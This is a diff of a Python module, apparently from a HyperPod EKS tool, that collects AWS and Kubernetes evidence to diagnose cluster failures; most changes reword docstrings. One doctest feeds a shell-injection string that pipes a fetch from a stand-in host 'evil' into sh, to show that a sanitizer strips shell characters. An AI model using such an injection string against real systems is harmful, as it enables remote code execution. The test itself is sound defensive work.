@@ -1,4 +1,4 @@
-"""Why it failed: what can be seen from outside, and the known causes that it points to."""
+"""Diagnose a failure: collect evidence, and match it with known causes."""
 
 from __future__ import annotations
 
@@ -19,18 +19,18 @@ from hyperpod_eks.terminal.text import clean, cut
 from hyperpod_eks.workers import gather
 
 TAIL = 5
-"""Lines of a lifecycle log that are shown."""
+"""Number of lines of a lifecycle log in its evidence."""
 SHOWN = 3
-"""Pieces of evidence that people are shown."""
+"""Maximum pieces of evidence in the text of a diagnosis."""
 FEW = 5
-"""Pieces of evidence of one kind that are shown: a thousand nodes fail for one reason."""
+"""Maximum pieces of evidence in a diagnosis: a thousand nodes may fail for one reason."""
 
 
 @frozen
 class Evidence:
-    """Something seen: ``source`` says where (``event``, ``pod``), ``text`` in AWS's words.
+    """An observation: its ``source`` (``event``, ``pod`` …) and its ``text``, unchanged.
 
-    ``about`` names the group, node, add-on or pod that it is about.
+    ``about`` names the group, node, add-on or pod.
     """
 
     source: str
@@ -53,7 +53,7 @@ class Diagnosis:
     evidence: tuple[Evidence, ...]
 
     def document(self) -> JsonObject:
-        """Return it for the error document."""
+        """Return the diagnosis for the error document."""
         return {
             "id": self.id,
             "cause": self.cause,
@@ -77,8 +77,8 @@ def diagnose(
 ) -> list[Diagnosis]:
     """Match evidence with the known causes, in the order of the table.  Pure.
 
-    ``names`` fill in the commands: cluster, name, again, region, eks.  ``known`` is the id of the
-    cause that the error itself names.
+    ``names`` are the values of placeholders: cluster, name, again, region, eks.  ``known`` is the
+    id of the cause that the error itself names.
     """
     found: dict[Cause, Diagnosis] = {}
     for cause in CAUSES:
@@ -105,7 +105,7 @@ def diagnose(
 def _diagnosis(
     cause: Cause, seen: Mapping[str, str], names: Mapping[str, str], evidence: Iterable[Evidence]
 ) -> Diagnosis:
-    """Fill in the words of a cause; what AWS said is quoted for the shell in a command."""
+    """Fill in the placeholders of a cause; text of AWS is made safe for the shell in ``next``."""
     quoted = {key: _word(each) for key, each in seen.items()}
     return Diagnosis(
         cause.id,
@@ -117,20 +117,20 @@ def _diagnosis(
 
 
 def _few(evidence: Iterable[Evidence]) -> Iterator[Evidence]:
-    """One piece of each source first, for the others mostly say the same; a few in all."""
+    """Yield at most `FEW` pieces, first one of each source: the others mostly repeat it."""
     first = {each.source: each for each in reversed(list(evidence))}
     rest = [each for each in evidence if each not in first.values()]
     yield from [*reversed(first.values()), *rest][:FEW]
 
 
 def _captured(cause: Cause, text: str) -> dict[str, str]:
-    """Return what the cause takes from a text; nothing from one that only names it."""
+    """Return the named groups of the cause's pattern in a text; {} if it does not match."""
     match = cause.pattern.search(text)
     return {name: value or "" for name, value in match.groupdict().items()} if match else {}
 
 
 def _word(text: str) -> str:
-    """Keep of a word that somebody else wrote what means nothing to a shell: it is to be typed.
+    """Remove characters that are special in a shell: users will paste the text into one.
 
     >>> _word("ml.p5.48xlarge for cluster usage"), _word("$(curl evil|sh)\x1b]0;x")
     ('ml.p5.48xlarge for cluster usage', 'curl evilsh0x')
@@ -139,23 +139,23 @@ def _word(text: str) -> str:
 
 
 def _group(evidence: Sequence[Evidence]) -> str:
-    """Name the instance group that some evidence is about: ``group`` or ``group/node``."""
+    """Return the instance group in the first ``about`` with one: ``group`` or ``group/node``."""
     ours = ("event", "instance group", "lifecycle log", "node")
     return next((e.about.partition("/")[0] for e in evidence if e.about and e.source in ours), "")
 
 
 def _fill(template: str, words: Mapping[str, str]) -> str:
-    """Put names into a template; braces that name nothing stay."""
+    """Replace the placeholders of a template; unknown ones stay."""
     return re.sub(r"\{(\w+)\}", lambda m: words.get(m[1]) or m[0], template)
 
 
-# --- gathering
+# --- collecting evidence
 
 
 def collect(aws: Aws, name: str, eks_name: str, error: str) -> list[Evidence]:
-    """Look for evidence everywhere at once: reads only, and what cannot be read is left out.
+    """Collect evidence from AWS and Kubernetes, concurrently and read-only; ignore errors.
 
-    ``error`` is the message that the command ends with, which is evidence itself.
+    ``error`` is the message of the command's error, which is evidence too.
     """
     snapshot = Snapshot(aws)
     sources: tuple[Callable[[], Iterable[Evidence]], ...] = (
@@ -170,9 +170,9 @@ def collect(aws: Aws, name: str, eks_name: str, error: str) -> list[Evidence]:
 
     def read(source: Callable[[], Iterable[Evidence]]) -> list[Evidence]:
         found = []
-        with suppress(Exception):  # a courtesy: the error itself is told in any case
+        with suppress(Exception):  # optional: the error is printed anyway
             for each in source():
-                found.append(each)  # noqa: PERF402  what came before an error counts
+                found.append(each)  # noqa: PERF402  keep those before an error
         return found
 
     parts = gather(*(partial(read, source) for source in sources))
@@ -201,7 +201,7 @@ def _events(aws: Aws, name: str) -> Iterator[Evidence]:
                 filter(None, (event.get("InstanceGroupName"), event.get("InstanceId")))
             )
             text, asked = event["Description"], asked + 1
-            with suppress(Exception):  # one right more; without it the description is told
+            with suppress(Exception):  # needs one more permission
                 text = hyperpod_api.failure(aws, name, event) if asked <= FEW else text
             yield Evidence("event", text, about)
 
@@ -218,7 +218,7 @@ def _nodes(snapshot: Snapshot, name: str) -> Iterator[Evidence]:
 
 
 def log_group(snapshot: Snapshot, name: str) -> str:
-    """Return the log group of the cluster that has this name now, or of the last that had it."""
+    """Return the log group of the cluster, or of the last one of this name; "" without one."""
     prefix = f"/aws/sagemaker/Clusters/{name}/"
     found = hyperpod_api.describe(snapshot, name)
     if found:
@@ -231,7 +231,7 @@ def log_group(snapshot: Snapshot, name: str) -> str:
 
 
 def _logs(snapshot: Snapshot, name: str) -> Iterator[Evidence]:
-    """The end of the newest lifecycle logs, newest first."""
+    """Yield the last lines of the newest lifecycle logs that did not succeed, newest first."""
     logs, group = snapshot.aws.logs, log_group(snapshot, name)
     if not group:
         return
